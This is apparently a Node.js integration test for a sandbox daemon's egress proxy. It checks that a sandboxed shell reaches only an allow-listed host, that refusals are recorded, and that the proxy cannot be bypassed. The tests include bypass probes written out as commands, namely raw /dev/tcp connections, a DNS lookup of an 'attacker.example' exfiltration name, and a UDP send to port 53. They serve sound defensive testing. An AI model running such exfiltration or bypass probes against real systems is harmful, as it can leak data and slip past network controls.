// The egress allow-list through wharf's proxy (docs/sandbox.md, "Network"), on a network
// the test makes: the daemon runs in a new network and mount namespace where two test
// addresses sit on loopback, /etc/hosts names them allowed.test and denied.test, and an
// HTTP server answers on each. A sandboxed shell with `allow = ["allowed.test:8080"]`
// reaches the allowed one through the proxy, is refused the other (and the refusal is in
// the store: host, port, time), cannot go around the proxy to either address, and has no
// name service to smuggle data through. Needs root (for the namespaces) and bubblewrap.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startDaemon, wharfBin } from '../support/daemon.mjs';
import { runWharf, stopDaemon } from '../support/ws_client.mjs';

const canRun = process.getuid?.() === 0 &&
  spawnSync('unshare', ['-mn', 'true']).status === 0 &&
  spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', 'true']).status === 0;

// Two servers, one per address; each exits when the daemon that started it is gone.
const SERVERS = `
const http = require('http');
for (const [addr, body] of [['198.51.100.1', 'allowed-ok'], ['198.51.100.2', 'denied-reached']])
  http.createServer((q, s) => s.end(body)).listen(8080, addr);
const parent = process.ppid;
setInterval(() => { try { process.kill(parent, 0); } catch { process.exit(0); } }, 500);
`;

function setup(t) {
  const root = mkdtempSync(join(tmpdir(), 'wharf-egress-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const workspace = join(root, 'ws');
  mkdirSync(workspace);
  writeFileSync(join(root, 'hosts'), '127.0.0.1 localhost\n198.51.100.1 allowed.test\n198.51.100.2 denied.test\n');
  writeFileSync(join(root, 'servers.js'), SERVERS);
  const config = join(root, 'config.toml');
  writeFileSync(config, '[sessions]\nsandbox = true\n\n[shells.bash]\nallow = ["allowed.test:8080"]\n');
  // `wharf serve` inside the namespaces, with the servers beside it.
  const bin = join(root, 'wharf-in-netns');
  writeFileSync(bin, `#!/bin/sh
exec unshare -mn --propagation private sh -c '
  ip link set lo up &&
  ip addr add 198.51.100.1/32 dev lo && ip addr add 198.51.100.2/32 dev lo &&
  mount --bind "${join(root, 'hosts')}" /etc/hosts || exit 97
  node "${join(root, 'servers.js')}" &
  exec "$0" "$@"' "${wharfBin}" "$@"
`);
  chmodSync(bin, 0o755);
  return { root, workspace, config, bin };
}

// A raw HTTP exchange from inside the session, with bash's /dev/tcp (no client program
// to trust): `via` is host:port to connect to, `request` the request line's target.
function exchange(via, target, host) {
  const [h, p] = via.split(':');
  return `exec 3<>/dev/tcp/${h}/${p} && printf 'GET ${target} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n' >&3 && timeout 5 cat <&3`;
}

test('only the allow-list is reachable, through the proxy; refusals are recorded; no way around it', { skip: !canRun && 'needs root, unshare and bubblewrap', timeout: 120000 }, async (t) => {
  const s = setup(t);
  const d = await startDaemon({ bin: s.bin, args: ['--config', s.config, '--workspace', s.workspace] });
  t.after(() => stopDaemon(d));
  const wharf = (args, opts) => runWharf([...args, '--state-dir', d.stateDir], opts);
  const made = await wharf(['new', '--shell', 'bash']);
  assert.equal(made.code, 0, made.stderr);
  const id = made.stdout.trim();
  const run = async (line) => {
    const r = await wharf(['run', '-t', id, '--timeout', '20', '-c', line], { timeout: 30000 });
    return { code: r.code, out: r.stdout, err: r.stderr };
  };

  const listed = JSON.parse((await wharf(['ls', '--json'])).stdout).find((x) => String(x.id) === id);
  assert.deepEqual(listed.capabilities.allow, ['allowed.test:8080']);
  assert.equal(listed.capabilities.network, 'allow');

  // The session is told where the proxy is, and curl (which honours it) gets through.
  let r = await run('echo "$HTTP_PROXY"');
  assert.match(r.out, /^http:\/\/127\.0\.0\.1:\d+/m);
  r = await run('curl -s --max-time 10 http://allowed.test:8080/');
  assert.equal(r.out.trim(), 'allowed-ok', r.err);
  // By hand, through the relay: allowed answers, denied is refused by the proxy.
  r = await run(exchange('127.0.0.1:3128', 'http://allowed.test:8080/', 'allowed.test:8080'));
  assert.match(r.out, /allowed-ok/);
  r = await run(exchange('127.0.0.1:3128', 'http://denied.test:8080/', 'denied.test:8080'));
  assert.match(r.out, /^HTTP\/1\.1 403/m);
  assert.doesNotMatch(r.out, /denied-reached/);
  // The allowed host on another port is another endpoint, and refused too.
  r = await run('curl -s -o /dev/null -w "%{http_code}" --max-time 10 http://allowed.test:9999/');
  assert.equal(r.out.trim(), '403');

  // Around the proxy: neither address is reachable directly, by name or by number.
  for (const via of ['198.51.100.1:8080', '198.51.100.2:8080']) {
    r = await run(`(${exchange(via, '/', 'x')}) 2>/dev/null || echo no-route`);
    assert.match(r.out, /no-route/, `direct to ${via}`);
    assert.doesNotMatch(r.out, /allowed-ok|denied-reached/);
  }
  r = await run('curl -s --noproxy "*" --max-time 5 http://allowed.test:8080/ || echo no-route');
  assert.match(r.out, /no-route/);
  // No name service: a lookup of a name outside /etc/hosts cannot leave the sandbox.
  r = await run('getent ahosts exfil-data.attacker.example || echo no-dns');
  assert.match(r.out, /no-dns/);
  r = await run('(exec 3<>/dev/udp/198.51.100.1/53 && echo x >&3) 2>/dev/null && echo sent || echo no-route');
  assert.match(r.out, /no-route/);

  // The store has each refusal: host, port and time, never a payload.
  const history = await wharf(['history', '--json']);
  assert.equal(history.code, 0, history.stderr);
  const row = JSON.parse(history.stdout).find((x) => String(x.id ?? x.session_id) === id);
  assert.ok(row, history.stdout.slice(0, 400));
  const refused = row.egress_refused.map((x) => `${x.host}:${x.port}`);
  assert.ok(refused.includes('denied.test:8080'), `refusals: ${refused}`);
  assert.ok(refused.includes('allowed.test:9999'), `refusals: ${refused}`);
  assert.ok(row.egress_refused.every((x) => Number.isInteger(x.at) && Object.keys(x).sort().join() === 'at,host,port'));
});
